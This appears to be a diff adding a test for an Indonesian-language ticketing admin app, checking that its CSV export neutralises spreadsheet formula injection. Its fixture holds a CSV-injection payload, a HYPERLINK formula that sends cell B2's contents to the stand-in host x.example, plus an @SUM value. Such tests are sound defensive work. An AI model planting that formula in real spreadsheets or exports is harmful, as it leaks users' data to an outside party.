@@ -203,3 +203,17 @@ def test_lists_filters_and_sorting_on_postgresql(postgres_url, tmp_path):
     }
     assert client.get(f"/admin/tiket/details/?id={second.id}").status_code == 200
     database.close()
+
+
+def test_export_neutralises_spreadsheet_formulas(client, login_as, make_ticket):
+    import csv
+    import io
+
+    make_ticket("open", subject='=HYPERLINK("http://x.example/?"&B2;"buka")')
+    make_ticket("open", requester_name="@SUM(1+1)")
+    login_as("admin")
+    export = client.get("/admin/tiket/export/csv/").get_data(as_text=True)
+    cells = [cell for row in csv.reader(io.StringIO(export)) for cell in row]
+    assert '\'=HYPERLINK("http://x.example/?"&B2;"buka")' in cells
+    assert "'@SUM(1+1)" in cells
+    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
